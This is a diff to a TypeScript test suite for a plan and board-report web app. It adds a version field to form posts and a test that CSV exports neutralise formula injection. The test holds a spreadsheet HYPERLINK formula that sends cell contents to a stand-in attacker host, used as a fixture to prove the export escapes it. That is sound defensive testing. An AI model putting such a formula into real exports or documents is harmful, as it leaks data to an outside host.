@@ -3,6 +3,7 @@
  * be saved as measurable without what makes it measurable; a draft is never published; a published target cannot move
  * without a reason, and every move is kept for good (the database refuses to change the history) and shown publicly.
  */
+import { parse } from 'csv-parse/sync';
 import { and, eq, sql } from 'drizzle-orm';
 import type TestAgent from 'supertest/lib/agent.js';
 import supertest from 'supertest';
@@ -36,10 +37,12 @@ const email = (key: string) => fixture.users[key]!.email;
 
 async function post(agent: TestAgent, formPath: string, action: string, fields: Record<string, string>) {
   const page = await agent.get(formPath);
+  // As a browser would: the version the form was opened at goes back with it, unless the test says otherwise.
+  const version = /name="version" value="(\d+)"/.exec(page.text)?.[1];
   return agent
     .post(action)
     .type('form')
-    .send({ _csrf: csrfFrom(page.text), ...fields });
+    .send({ _csrf: csrfFrom(page.text), ...(version === undefined ? {} : { version }), ...fields });
 }
 
 /** Visible text of a page, tags removed and spaces collapsed. */
@@ -544,6 +547,23 @@ describe('the board report', () => {
     const raw = bytes.toString('latin1');
     expect(raw).toContain('/StructTreeRoot');
     expect(raw).toContain('/Lang (en-GB)');
+  });
+
+  it('writes a commitment that looks like a formula as text in the CSV (OWASP CSV injection)', async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
+    await post(board, '/improvement-plan/commitments/new', '/improvement-plan/commitments', {
+      version: '0',
+      intent: 'draft',
+      statement: hostile,
+      priorityId,
+    }).then((r) => expect(r.status).toBe(303));
+    const csv = await board.get('/improvement-plan/board-report.csv').expect(200);
+    const rows: string[][] = parse(csv.text.replace(/^\ufeff/, ''), { relax_column_count: true });
+    const cells = rows.flat();
+    expect(cells).toContain(`'${hostile}`);
+    expect(cells).not.toContain(hostile);
+    // No text cell anywhere in the report starts a formula.
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
   });
 
   it('the public plan is not there while the plan is unpublished', async () => {
